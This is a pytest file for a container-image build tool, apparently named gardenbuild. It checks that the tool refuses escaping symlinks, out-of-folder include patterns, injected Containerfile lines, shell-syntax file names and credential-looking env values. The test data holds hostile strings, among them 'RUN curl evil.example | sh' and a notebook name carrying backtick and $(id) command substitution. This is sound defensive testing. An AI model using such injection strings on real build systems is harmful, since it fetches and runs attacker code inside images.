"""Hostile or unlucky input that must never reach an image or crash: links that lead out of
the garden folder, links that lead nowhere, patterns outside the folder, injected
Containerfile syntax, secrets in the environment, input of the wrong type.

Unit tests: no buildah. The real builds of these cases are in test_safety_integration.py.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Optional

import pytest

from gardenbuild.engine import stamp
from gardenbuild.errors import ConfigError
from gardenbuild.manifest.load import load
from helpers import cli

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "solubility"


@pytest.fixture
def garden(tmp_path):
    dest = tmp_path / "g"
    shutil.copytree(EXAMPLE, dest, ignore=shutil.ignore_patterns(".gardenbuild"))
    return dest


def test_a_link_to_a_host_file_is_refused_with_where_it_points(garden, tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secret")
    (garden / "data" / "shadow").symlink_to(secret)
    with pytest.raises(ConfigError) as info:
        load(garden)
    (problem,) = info.value.problems
    assert problem.message == (f"data/shadow is a symbolic link to {secret}, outside the garden folder; gardenbuild "
                               "never copies a file from outside it: copy the file in, or list the link in exclude")
    code, out, err = cli("check", str(garden))
    assert code == 2 and err.startswith("error: Gardenfile.toml: data/shadow is a symbolic link to ")
    assert "Traceback" not in err


def test_a_link_to_a_folder_outside_is_refused_too(garden, tmp_path):
    (tmp_path / "etc").mkdir()
    (garden / "hostetc").symlink_to(tmp_path / "etc")
    with pytest.raises(ConfigError, match=r"hostetc is a symbolic link to .*/etc, outside the garden folder"):
        load(garden)


def test_a_dangling_link_is_a_clear_error_not_a_traceback(garden):
    (garden / "data" / "gone.csv").symlink_to(garden / "data" / "nowhere.csv")
    code, out, err = cli("check", str(garden))
    assert code == 2
    assert err.splitlines()[0] == (f"error: Gardenfile.toml: data/gone.csv is a symbolic link to {garden}/data/nowhere.csv,"
                                   " which does not exist; remove the link or list it in exclude")
    # the no-op fingerprint reads links as links: it neither follows nor crashes on one
    assert stamp.fingerprint(garden, {}) == stamp.fingerprint(garden, {})


def test_an_excluded_bad_link_is_fine(garden, tmp_path):
    (garden / "scratch.lnk").symlink_to(tmp_path / "nowhere")
    (garden / "Gardenfile.toml").write_text(
        (garden / "Gardenfile.toml").read_text().replace('notebook = "solubility.ipynb"',
                                                         'notebook = "solubility.ipynb"\nexclude = ["*.lnk"]'))
    assert "scratch.lnk" not in load(garden).files


def test_a_link_inside_the_folder_is_copied_as_its_target(garden):
    (garden / "data" / "train.sdf").symlink_to("solubility.train.sdf")
    files = load(garden).files
    assert "data/train.sdf" in files and "data/solubility.train.sdf" in files


def test_include_patterns_outside_the_folder_are_errors_and_empty_ones_warnings(garden, run_cli):
    text = (garden / "Gardenfile.toml").read_text()
    (garden / "Gardenfile.toml").write_text(text.replace(
        'notebook = "solubility.ipynb"', 'notebook = "solubility.ipynb"\ninclude = ["../*", "/etc/*", "data/*"]'))
    code, _, err = run_cli("check", str(garden))
    assert code == 2
    assert "include[0]: pattern '../*' points outside the garden folder" in err
    assert "include[1]: pattern '/etc/*' points outside the garden folder" in err
    (garden / "Gardenfile.toml").write_text(text.replace(
        'notebook = "solubility.ipynb"', 'notebook = "solubility.ipynb"\ninclude = ["data/*", "models/*.pt"]'))
    code, _, err = run_cli("check", str(garden))
    assert code == 0
    assert err == f"warning: include pattern 'models/*.pt' matches no file in {garden.resolve()}\n"


def test_the_fingerprint_never_reads_through_a_link(garden, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("one")
    (garden / "outside").symlink_to(outside)
    first = stamp.fingerprint(garden, {})
    outside.write_text("two")  # were the link followed, the fingerprint would change
    assert stamp.fingerprint(garden, {}) == first


# --------------------------------------------------------------------------- injection


def set_environment(garden: Path, lines: str) -> None:
    text = (garden / "Gardenfile.toml").read_text()
    (garden / "Gardenfile.toml").write_text(text.replace('[environment]\n', f'[environment]\n{lines}\n', 1))


def test_a_base_image_that_is_no_reference_is_refused_everywhere_it_can_come_from(garden, run_cli, monkeypatch):
    set_environment(garden, 'base_image = "python:3.11\\nRUN curl evil.example | sh"')
    code, _, err = run_cli("render", str(garden))
    assert code == 2 and "environment.base_image: 'python:3.11\\nRUN curl evil.example | sh' is not an image " \
                         "reference: it contains whitespace or control characters" in err
    ok = garden.parent / "ok"
    shutil.copytree(EXAMPLE, ok, ignore=shutil.ignore_patterns(".gardenbuild"))
    code, _, err = run_cli("render", str(ok), "--base-image", "x\nRUN id")
    assert (code, err.splitlines()[0]) == (2, "error: --base-image: 'x\\nRUN id' is not an image reference: it "
                                              "contains whitespace or control characters")
    monkeypatch.setenv("GARDENBUILD_BASE_IMAGE", "Bad Name")
    code, _, err = run_cli("render", str(ok))
    assert code == 2 and err.startswith("error: GARDENBUILD_BASE_IMAGE: 'Bad Name' is not an image reference")


def test_a_notebook_name_with_shell_syntax_is_never_read_by_a_shell(tmp_path, run_cli):
    garden = tmp_path / "g"
    shutil.copytree(EXAMPLE, garden, ignore=shutil.ignore_patterns(".gardenbuild", "Gardenfile.lock"))
    odd = 'model`touch pwned`$(id)".ipynb'
    (garden / "solubility.ipynb").rename(garden / odd)
    text = (garden / "Gardenfile.toml").read_text().replace('notebook = "solubility.ipynb"',
                                                            f"notebook = '{odd}'")
    (garden / "Gardenfile.toml").write_text(text)
    code, out, err = run_cli("render", "--stage", "garden", str(garden))
    assert code == 0, err
    (run,) = [line for line in out.splitlines() if "gardenbuild.runtime.execute" in line]
    assert run.startswith("RUN [") and run.endswith("]")  # exec form: JSON, no shell
    import json

    argv = json.loads(run[4:])
    assert argv[argv.index("--notebook") + 1] == odd


def test_env_values_with_newlines_secret_names_and_reserved_names_are_refused(garden, run_cli):
    text = (garden / "Gardenfile.toml").read_text()
    (garden / "Gardenfile.toml").write_text(text.replace(
        'env = { OMP_NUM_THREADS = "1" }',
        'env = { OMP_NUM_THREADS = "1", NOTE = "two\\nlines", API_TOKEN = "abc123", PYTHONPATH = "/x" }'))
    code, _, err = run_cli("check", str(garden))
    assert code == 2
    assert "environment.env.NOTE: env values must be one line without control characters" in err
    assert ("environment.env.API_TOKEN: 'API_TOKEN' looks like a credential, and env values are written into the "
            "image for anyone to read; declare it as secrets = [\"API_TOKEN\"] in [environment]") in err
    assert "environment.env.PYTHONPATH: 'PYTHONPATH' cannot be set here: the gardenbuild runtime lives on PYTHONPATH" in err
    assert "abc123" not in err


def test_env_values_are_kept_exactly(garden, run_cli):
    # The Gardenfile's [environment] table already has env = {...}: replace it.
    text = (garden / "Gardenfile.toml").read_text().replace('env = { OMP_NUM_THREADS = "1" }',
                                                            'env = { GREETING = "a  b\\tc" }')
    (garden / "Gardenfile.toml").write_text(text)
    code, out, err = run_cli("check", str(garden))
    assert code == 2 and "GREETING: env values must be one line" in err  # a tab is a control character
    (garden / "Gardenfile.toml").write_text(text.replace('\\tc"', '"'))
    code, out, err = run_cli("render", "--stage", "garden", str(garden))
    assert code == 0 and 'GREETING="a  b"' in out  # two spaces stay two


def test_a_secret_may_not_also_be_an_env_value(garden, run_cli):
    text = (garden / "Gardenfile.toml").read_text().replace('env = { OMP_NUM_THREADS = "1" }',
                                                            'env = { OMP_NUM_THREADS = "1" }\nsecrets = ["OMP_NUM_THREADS"]')
    (garden / "Gardenfile.toml").write_text(text)
    code, _, err = run_cli("check", str(garden))
    assert code == 2 and "OMP_NUM_THREADS is both a secret and an env value" in err


# --------------------------------------------------------------------------- calls that do not fit


def test_arguments_are_checked_against_the_hints_naming_the_parameter():
    from gardenbuild.runtime.signature import argument_mismatch

    def predict(smiles: list[str], n: int = 3, scale: Optional[float] = None, meta: dict[str, float] = {},
                anything=None, frame: "object" = None):
        return smiles

    assert argument_mismatch(predict, [], {"smiles": 5}) == "parameter smiles must be a list (list[str]), not 5 (a number)"
    assert argument_mismatch(predict, [], {"smiles": ["C", 3]}) == "parameter smiles[1] must be a string, not 3 (a number)"
    assert argument_mismatch(predict, [], {"smiles": [], "n": True}) == "parameter n must be an integer, not true (true/false)"
    assert argument_mismatch(predict, [], {"smiles": [], "scale": "x"}).startswith("parameter scale must be ")
    assert argument_mismatch(predict, [], {"smiles": [], "meta": {"a": "b"}}) == (
        "parameter meta['a'] must be a number, not \"b\" (a string)")
    assert argument_mismatch(predict, [], {"smiles": ["C"], "n": 1, "scale": 2, "meta": {"a": 1.5},
                                           "anything": {"x": [1]}, "frame": [[1]]}) is None


def test_a_build_that_waits_for_another_says_what_it_waits_for(tmp_path):
    import threading

    from gardenbuild.engine.store import StepStore
    from gardenbuild.errors import UserError
    from gardenbuild.report import RecordingReporter

    store = StepStore(tmp_path)
    held, release = threading.Event(), threading.Event()

    def other_build():
        with store.lock("garden-solubility"):
            held.set()
            release.wait(10)

    thread = threading.Thread(target=other_build)
    thread.start()
    held.wait(10)
    reporter = RecordingReporter()
    with pytest.raises(UserError, match="another gardenbuild process has been building 'solubility' for 0.2 s"):
        with store.lock("garden-solubility", timeout=0.2, reporter=reporter):
            pass
    release.set()
    thread.join()
    assert reporter.messages("info") == ["waiting for another gardenbuild process that is building 'solubility' "
                                         "(up to 0.2 s); its result will be reused"]
    with store.lock("garden-solubility", reporter=reporter):  # free now: no word
        pass
    assert len(reporter.messages("info")) == 1


def test_stray_logs_editor_files_and_other_notebooks_stay_out_unless_included(garden):
    for name in ("run.log", "data/notes.txt~", "draft.ipynb", "venv/lib/x.py", "data/extra.csv"):
        (garden / name).parent.mkdir(parents=True, exist_ok=True)
        (garden / name).write_text("x")
    files = load(garden).files
    assert "data/extra.csv" in files and "solubility.ipynb" in files
    assert not {"run.log", "data/notes.txt~", "draft.ipynb", "venv/lib/x.py"} & set(files)
    text = (garden / "Gardenfile.toml").read_text()
    (garden / "Gardenfile.toml").write_text(text.replace('notebook = "solubility.ipynb"',
                                                         'notebook = "solubility.ipynb"\ninclude = ["data/*", "*.log"]'))
    assert "run.log" in load(garden).files
